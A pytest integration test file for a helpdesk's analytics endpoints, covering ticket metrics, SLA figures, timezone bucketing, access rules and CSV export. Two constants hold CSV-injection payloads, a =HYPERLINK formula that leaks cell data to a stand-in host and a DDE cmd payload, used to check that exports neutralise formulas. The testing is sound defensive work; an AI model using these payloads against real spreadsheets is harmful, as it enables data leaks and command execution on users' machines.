"""Analytics: exact figures from seeded tickets, messages and SLA clocks, timezone
bucketing, who may see which report, and the CSV export (real PostgreSQL).

The seed lives in the world's tenant A: department `dept` with the `agent` in it and the
`manager` managing it, mailbox `stats` (Europe/Berlin, assigned to the agent only), and
tickets in the first two weeks of March 2025 (Berlin is UTC+1 then).
"""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from typing import Any

import httpx
import pytest
import pytest_asyncio
from argon2 import PasswordHasher
from postdesk_contracts.api_analytics import MAX_ANALYTICS_DAYS
from postdesk_gateway.analytics import (
    Period,
    neutralised,
    peak_matrix,
    resolve_period,
    to_csv,
    trend,
)
from postdesk_gateway.domain import InvalidRequestError
from postdesk_runtime import Sessions
from postdesk_schema import (
    AccountKind,
    AssignmentRole,
    AuditLog,
    Department,
    DepartmentManager,
    EmailAccount,
    EmailAssignment,
    Message,
    OutboundMessage,
    SlaPolicy,
    SlaTimer,
    Ticket,
    TicketStatus,
    User,
)
from postdesk_testing.problems import assert_problem
from sqlmodel import col, select

pytestmark = pytest.mark.integration

Auth = Callable[[str], dict[str, str]]
PASSWORD = "analytics password of the seed"
EVIL_NAME = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'
EVIL_MAILBOX = "@SUM(1+1)*cmd|' /C calc'!A0"
PERIOD = {"from": "2025-03-03", "to": "2025-03-16"}


def at(day: int, hour: int, minute: int = 0) -> datetime:
    """A UTC time in March 2025."""
    return datetime(2025, 3, day, hour, minute, tzinfo=UTC)


@dataclass
class Stats:
    department: Department
    other_department: Department
    account: EmailAccount
    users: dict[str, User]
    headers: dict[str, dict[str, str]]


def ticket(world: Any, account: EmailAccount, dept: Department, n: int, **values: Any) -> Ticket:
    return Ticket(
        tenant_id=world.tenant_a,
        number=9000 + n,
        account_id=account.id,
        department_id=dept.id,
        subject=f"Stats {n}",
        customer_email=f"stats{n}@client.test",
        **values,
    )


def message(t: Ticket, header: str, created_at: datetime, **values: Any) -> Message:
    return Message(
        tenant_id=t.tenant_id,
        ticket_id=t.id,
        account_id=t.account_id,
        message_id_header=header,
        created_at=created_at,
        **values,
    )


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def stats(sessions: Sessions, world: Any, client: httpx.AsyncClient) -> Stats:
    suffix = world.suffix
    a = world.tenant_a
    dept = Department(tenant_id=a, name=f"Analytics {suffix}")
    other = Department(tenant_id=world.tenant_b, name=f"Analytics B {suffix}")
    hashed = PasswordHasher().hash(PASSWORD)

    def member(name: str, **values: Any) -> User:
        return User(
            tenant_id=a,
            email=f"{name}-{suffix}@stats.test",
            password_hash=hashed,
            **({"full_name": name.title()} | values),
        )

    users = {
        "agent": member("agent", department_id=dept.id, full_name=EVIL_NAME),
        "manager": member("manager"),
        "outsider": member("outsider"),
    }
    account = EmailAccount(
        tenant_id=a,
        address=f"stats-{suffix}@acme.test",
        display_name=EVIL_MAILBOX,
        kind=AccountKind.SHARED,
        timezone="Europe/Berlin",
    )
    agent, admin = users["agent"].id, world.users["admin"].id
    resolved = TicketStatus.RESOLVED
    t = {
        # Monday 09:30 in Berlin
        1: ticket(world, account, dept, 1, created_at=at(3, 8, 30), assignee_id=agent,
                  status=resolved, response_minutes=10, resolution_minutes=100,
                  resolved_at=at(3, 10, 10)),
        2: ticket(world, account, dept, 2, created_at=at(4, 10), assignee_id=agent,
                  status=resolved, response_minutes=20, resolution_minutes=200,
                  resolved_at=at(4, 13, 20)),
        # Wednesday 23:30 UTC is Thursday 00:30 in Berlin
        3: ticket(world, account, dept, 3, created_at=at(5, 23, 30), assignee_id=agent,
                  response_minutes=30),
        4: ticket(world, account, dept, 4, created_at=at(10, 12), assignee_id=admin,
                  status=TicketStatus.PENDING, response_minutes=40),
        # soft-deleted and merged-away: in no figure
        5: ticket(world, account, dept, 5, created_at=at(4, 8), assignee_id=agent,
                  response_minutes=1000, deleted_at=at(6, 0)),
        6: ticket(world, account, dept, 6, created_at=at(4, 9), assignee_id=agent,
                  response_minutes=2000),
        # before the period: only in the open backlog
        7: ticket(world, account, dept, 7, created_at=at(3, 0) - timedelta(days=10),
                  assignee_id=agent),
    }  # fmt: skip
    policy = SlaPolicy(tenant_id=a, name=f"stats-{suffix}", first_response_minutes=60)

    def clock(n: int, target: str, state: str, breached: bool = False) -> SlaTimer:
        created = t[n].created_at
        return SlaTimer(
            tenant_id=a,
            ticket_id=t[n].id,
            policy_id=policy.id,
            target=target,
            state=state,
            started_at=created,
            due_at=created + timedelta(hours=1),
            warn_at=created + timedelta(minutes=48),
            breached_at=created + timedelta(hours=1) if breached else None,
        )

    clocks = [
        clock(1, "first_response", "stopped"),
        clock(1, "resolution", "stopped"),
        clock(2, "first_response", "stopped", breached=True),
        clock(3, "first_response", "running"),
        clock(4, "first_response", "stopped"),
        clock(5, "first_response", "stopped", breached=True),
    ]
    sent_by_agent = OutboundMessage(
        id=uuid.uuid4(), tenant_id=a, account_id=account.id, ticket_id=t[1].id,
        kind="reply", status="sent", requested_by=agent,
    )  # fmt: skip
    sent_by_admin = OutboundMessage(
        id=uuid.uuid4(), tenant_id=a, account_id=account.id, ticket_id=t[4].id,
        kind="reply", status="sent", requested_by=admin,
    )  # fmt: skip
    messages = [
        message(t[1], f"s1-{suffix}@client.test", at(3, 8, 30)),  # Mon 09 Berlin
        message(t[1], f"s2-{suffix}@client.test", at(3, 8, 59)),  # Mon 09
        message(t[2], f"s3-{suffix}@client.test", at(4, 8, 45)),  # Tue 09
        message(t[3], f"s4-{suffix}@client.test", at(5, 23, 30)),  # Thu 00
        message(t[5], f"s5-{suffix}@client.test", at(3, 8, 10)),  # deleted ticket
        message(t[1], f"o1-{suffix}@acme.test", at(3, 9), direction="outbound",
                outbound_id=sent_by_agent.id),
        message(t[4], f"o2-{suffix}@acme.test", at(10, 13), direction="outbound",
                outbound_id=sent_by_admin.id),
    ]  # fmt: skip
    async with sessions() as session:
        session.add_all([dept, other])
        await session.flush()
        session.add_all([*users.values(), account, policy])
        await session.flush()
        session.add_all(
            [
                DepartmentManager(department_id=dept.id, user_id=users["manager"].id, tenant_id=a),
                EmailAssignment(
                    tenant_id=a, account_id=account.id, user_id=agent, role=AssignmentRole.PRIMARY
                ),
            ]
        )
        session.add_all([t[n] for n in (1, 2, 3, 4, 5, 7)])
        await session.flush()
        t[6].merged_into_id = t[1].id
        session.add(t[6])
        session.add_all([*clocks, sent_by_agent, sent_by_admin])
        await session.flush()
        session.add_all(messages)
        await session.commit()
    headers = {}
    for name, user in users.items():
        response = await client.post(
            "/auth/login", json={"email": user.email, "password": PASSWORD}
        )
        assert response.status_code == 200, response.text
        headers[name] = {"Authorization": f"Bearer {response.json()['access_token']}"}
    return Stats(dept, other, account, users, headers)


def parse_csv(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    return list(csv.reader(io.StringIO(response.text)))


class TestShaping:
    """Periods, series and CSV cells (pure)."""

    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
    def test_formula_starts_are_neutralised(self, start: str) -> None:
        """A cell a spreadsheet would evaluate gets a leading single quote."""
        assert neutralised(start + "1+1") == "'" + start + "1+1"

    def test_plain_cells_stay_as_they_are(self) -> None:
        """Text, numbers, None and an inner = are left alone."""
        assert [neutralised(v) for v in ("Acme", 12, 2.5, None, "a=b")] == [
            "Acme", "12", "2.5", "", "a=b",
        ]  # fmt: skip

    def test_csv_parses_back(self) -> None:
        """Quotes, commas and line breaks survive a round trip through the csv module."""
        text = to_csv([("agent", 'Ann "A", B\nC', "tickets", 3), ("x", "=1", "m", None)])
        assert list(csv.reader(io.StringIO(text))) == [
            ["section", "item", "metric", "value"],
            ["agent", 'Ann "A", B\nC', "tickets", "3"],
            ["x", "'=1", "m", ""],
        ]

    def test_default_period_is_the_last_30_days_in_the_zone(self) -> None:
        """Without from and to: 30 days up to today, today as the zone sees it."""
        now = datetime(2025, 3, 31, 23, 30, tzinfo=UTC)  # already April 1st in Berlin
        period = resolve_period(None, None, zone="Europe/Berlin", granularity="day", now=now)
        assert (period.start, period.end) == (date(2025, 3, 3), date(2025, 4, 1))
        assert period.starts_at == datetime(2025, 3, 2, 23, tzinfo=UTC)
        assert period.ends_at == datetime(2025, 4, 1, 22, tzinfo=UTC)  # summer time by then

    def test_unknown_zone_counts_in_utc(self) -> None:
        """A stored timezone we cannot use falls back to UTC instead of failing."""
        period = resolve_period(
            date(2025, 1, 1), None, zone="Mars/Olympus", granularity="day", now=datetime.now(UTC)
        )
        assert (period.zone, period.end) == ("UTC", date(2025, 1, 30))

    @pytest.mark.parametrize(
        ("start", "end"),
        [
            (date(2025, 3, 2), date(2025, 3, 1)),
            (date(2024, 1, 1), date(2024, 1, 1) + timedelta(days=MAX_ANALYTICS_DAYS)),
            (date(1, 1, 1), date(1, 1, 2)),
            (date(9999, 12, 30), date(9999, 12, 31)),
            (None, date(1970, 1, 2)),
            (date(2999, 12, 20), None),
        ],
    )
    def test_bad_periods_are_refused(self, start: date | None, end: date | None) -> None:
        """A start after the end, more than MAX_ANALYTICS_DAYS days, or days so far out that
        a shift by zone or period would overflow (also the defaulted side)."""
        with pytest.raises(InvalidRequestError):
            resolve_period(start, end, zone="UTC", granularity="day", now=datetime.now(UTC))

    def test_weekly_trend_starts_on_monday_and_fills_gaps(self) -> None:
        """Every week of the period has a point, zero where nothing was created."""
        period = Period(date(2025, 3, 5), date(2025, 3, 20), "UTC", "week")
        points = trend(period, {date(2025, 3, 10): 4})
        assert [(p.period_start, p.tickets) for p in points] == [
            (date(2025, 3, 3), 0),
            (date(2025, 3, 10), 4),
            (date(2025, 3, 17), 0),
        ]

    def test_peak_matrix_is_seven_by_twenty_four(self) -> None:
        """ISO weekday 1 is the first row, hour the column."""
        matrix = peak_matrix([(1, 9, 2), (7, 23, 1)])
        assert len(matrix) == 7
        assert {len(row) for row in matrix} == {24}
        assert (matrix[0][9], matrix[6][23], sum(map(sum, matrix))) == (2, 1, 3)


class TestMyPerformance:
    async def test_figures_of_the_caller(self, client: httpx.AsyncClient, stats: Stats) -> None:
        """Only the caller's live tickets count; replies are the mail they sent."""
        response = await client.get("/analytics/me", params=PERIOD, headers=stats.headers["agent"])
        assert response.status_code == 200, response.text
        body = response.json()
        assert body["user_id"] == str(stats.users["agent"].id)
        assert (body["tickets_handled"], body["tickets_resolved"], body["replies_sent"]) == (
            3,
            2,
            1,
        )
        assert body["times"] == {
            "median_response_minutes": 20.0,
            "p90_response_minutes": 28.0,
            "median_resolution_minutes": 150.0,
            "p90_resolution_minutes": 190.0,
        }
        assert body["sla"] == {"met": 2, "breached": 1, "percent": 66.7}
        # the agent counts in UTC: ticket 3 falls on Wednesday the 5th
        days = {p["period_start"]: p["tickets"] for p in body["trend"]}
        assert len(days) == 14
        assert {d: n for d, n in days.items() if n} == {
            "2025-03-03": 1, "2025-03-04": 1, "2025-03-05": 1,
        }  # fmt: skip

    async def test_someone_without_tickets_gets_zeros(
        self, client: httpx.AsyncClient, stats: Stats
    ) -> None:
        """No tickets: zero counts, null times and compliance (not an error)."""
        response = await client.get(
            "/analytics/me", params=PERIOD, headers=stats.headers["outsider"]
        )
        body = response.json()
        assert (body["tickets_handled"], body["replies_sent"]) == (0, 0)
        assert body["times"]["median_response_minutes"] is None
        assert body["sla"] == {"met": 0, "breached": 0, "percent": None}

    @pytest.mark.parametrize(
        "params",
        [
            {"from": "2025-03-10", "to": "2025-03-01"},
            {"from": "2024-01-01", "to": "2025-01-02"},
            {"granularity": "month"},
            {"from": "yesterday"},
            {"to": "9999-12-31"},
        ],
    )
    async def test_bad_parameters_are_400(
        self, client: httpx.AsyncClient, stats: Stats, params: dict[str, str]
    ) -> None:
        """A reversed or too long period, an unknown granularity, a date that is none."""
        response = await client.get("/analytics/me", params=params, headers=stats.headers["agent"])
        assert_problem(response, 400)

    async def test_needs_a_token(self, client: httpx.AsyncClient) -> None:
        assert_problem(await client.get("/analytics/me"), 401)


class TestDepartmentOverview:
    async def test_figures(self, client: httpx.AsyncClient, stats: Stats, world: Any) -> None:
        """Volume, backlog (open or pending now, whenever created), agents most first."""
        response = await client.get(
            f"/analytics/departments/{stats.department.id}",
            params=PERIOD | {"granularity": "week"},
            headers=stats.headers["agent"],
        )
        assert response.status_code == 200, response.text
        body = response.json()
        assert (body["tickets"], body["open_backlog"]) == (4, 3)
        assert [
            (a["user_id"], a["tickets_handled"], a["tickets_resolved"]) for a in body["agents"]
        ] == [(str(stats.users["agent"].id), 3, 2), (str(world.users["admin"].id), 1, 0)]
        assert body["times"]["median_response_minutes"] == 25.0
        assert body["times"]["p90_response_minutes"] == 37.0
        assert body["sla"] == {"met": 3, "breached": 1, "percent": 75.0}
        assert [(p["period_start"], p["tickets"]) for p in body["trend"]] == [
            ("2025-03-03", 3),
            ("2025-03-10", 1),
        ]

    @pytest.mark.parametrize("role", ["agent", "manager"])
    async def test_members_and_managers_see_it(
        self, client: httpx.AsyncClient, stats: Stats, role: str
    ) -> None:
        response = await client.get(
            f"/analytics/departments/{stats.department.id}",
            params=PERIOD,
            headers=stats.headers[role],
        )
        assert response.status_code == 200, response.text

    async def test_admin_sees_it(self, client: httpx.AsyncClient, stats: Stats, auth: Auth) -> None:
        response = await client.get(
            f"/analytics/departments/{stats.department.id}", params=PERIOD, headers=auth("admin")
        )
        assert response.json()["tickets"] == 4

    async def test_others_get_404(
        self, client: httpx.AsyncClient, stats: Stats, auth: Auth
    ) -> None:
        """A member of neither, another tenant's admin, and A's admin on B's department."""
        url = f"/analytics/departments/{stats.department.id}"
        assert_problem(await client.get(url, headers=stats.headers["outsider"]), 404)
        assert_problem(await client.get(url, headers=auth("admin_b")), 404)
        assert_problem(await client.get(f"{url}/export.csv", headers=auth("admin_b")), 404)
        other = f"/analytics/departments/{stats.other_department.id}"
        assert_problem(await client.get(other, headers=auth("admin")), 404)
        assert_problem(
            await client.get(f"/analytics/departments/{uuid.uuid4()}", headers=auth("admin")), 404
        )


class TestAccountStatistics:
    async def test_figures_in_the_mailbox_timezone(
        self, client: httpx.AsyncClient, stats: Stats
    ) -> None:
        """Days and hours are Berlin's: ticket 3 (23:30 UTC Wednesday) is Thursday 00h."""
        response = await client.get(
            f"/analytics/accounts/{stats.account.id}", params=PERIOD, headers=stats.headers["agent"]
        )
        assert response.status_code == 200, response.text
        body = response.json()
        assert body["period"] == {
            "start": "2025-03-03", "end": "2025-03-16",
            "timezone": "Europe/Berlin", "granularity": "day",
        }  # fmt: skip
        assert body["tickets"] == 4
        days = {p["period_start"]: p["tickets"] for p in body["trend"]}
        assert {d: n for d, n in days.items() if n} == {
            "2025-03-03": 1, "2025-03-04": 1, "2025-03-06": 1, "2025-03-10": 1,
        }  # fmt: skip
        peaks = body["peak_hours"]
        assert (peaks[0][9], peaks[1][9], peaks[3][0]) == (2, 1, 1)
        assert sum(map(sum, peaks)) == 4  # no outbound mail, nothing of the deleted ticket
        assert body["times"] == {
            "median_response_minutes": 25.0,
            "p90_response_minutes": 37.0,
            "median_resolution_minutes": 150.0,
            "p90_resolution_minutes": 190.0,
        }
        assert body["sla"]["percent"] == 75.0

    @pytest.mark.parametrize("role", ["primary", "unassigned", "admin_b"])
    async def test_unassigned_or_other_tenant_gets_404(
        self, client: httpx.AsyncClient, stats: Stats, auth: Auth, role: str
    ) -> None:
        """A member without an assignment on it, and another tenant's admin."""
        url = f"/analytics/accounts/{stats.account.id}"
        assert_problem(await client.get(url, headers=auth(role)), 404)
        assert_problem(await client.get(f"{url}/export.csv", headers=auth(role)), 404)

    async def test_member_sees_own_mailbox_only(
        self, client: httpx.AsyncClient, stats: Stats, world: Any, auth: Auth
    ) -> None:
        """The agent is 404 on the world's support mailbox, the backup on `sales` (inactive
        assignment), A's admin on B's mailbox; the primary sees support."""
        sales = world.accounts["sales"].id
        assert_problem(
            await client.get(f"/analytics/accounts/{sales}", headers=auth("backup")), 404
        )
        support = world.accounts["support"].id
        assert_problem(
            await client.get(f"/analytics/accounts/{support}", headers=stats.headers["agent"]), 404
        )
        b_support = world.accounts["b_support"].id
        assert_problem(
            await client.get(f"/analytics/accounts/{b_support}", headers=auth("admin")), 404
        )
        response = await client.get(f"/analytics/accounts/{support}", headers=auth("primary"))
        assert response.status_code == 200, response.text


class TestCsvExport:
    async def test_department_names_cannot_run_as_formulas(
        self, client: httpx.AsyncClient, stats: Stats, sessions: Sessions
    ) -> None:
        """The agent's =HYPERLINK name is quoted; no cell starts a formula; the export is
        audit-logged."""
        response = await client.get(
            f"/analytics/departments/{stats.department.id}/export.csv",
            params=PERIOD,
            headers=stats.headers["manager"],
        )
        rows = parse_csv(response)
        assert rows[0] == ["section", "item", "metric", "value"]
        assert ["agent", "'" + EVIL_NAME, "tickets_handled", "3"] in rows
        assert ["summary", stats.department.name, "open_backlog", "3"] in rows
        assert ["sla", "", "percent", "75.0"] in rows
        assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]
        async with sessions() as session:
            audited = await session.scalars(
                select(AuditLog).where(
                    col(AuditLog.action) == "analytics.exported",
                    col(AuditLog.object_id) == str(stats.department.id),
                    col(AuditLog.actor_user_id) == stats.users["manager"].id,
                )
            )
            assert audited.first() is not None

    async def test_account_export(self, client: httpx.AsyncClient, stats: Stats) -> None:
        """The mailbox's @ name is quoted; peak hours are 168 rows; JSON figures agree."""
        rows = parse_csv(
            await client.get(
                f"/analytics/accounts/{stats.account.id}/export.csv",
                params=PERIOD,
                headers=stats.headers["agent"],
            )
        )
        assert ["summary", "'" + EVIL_MAILBOX, "tickets", "4"] in rows
        peaks = [row for row in rows if row[0] == "peak_hours"]
        assert len(peaks) == 7 * 24
        assert ["peak_hours", "Mon", "09:00", "2"] in peaks
        assert ["trend", "2025-03-06", "tickets", "1"] in rows

    async def test_my_export(self, client: httpx.AsyncClient, stats: Stats) -> None:
        rows = parse_csv(
            await client.get(
                "/analytics/me/export.csv", params=PERIOD, headers=stats.headers["agent"]
            )
        )
        assert ["summary", "", "replies_sent", "1"] in rows
        assert ["period", "", "start", "2025-03-03"] in rows
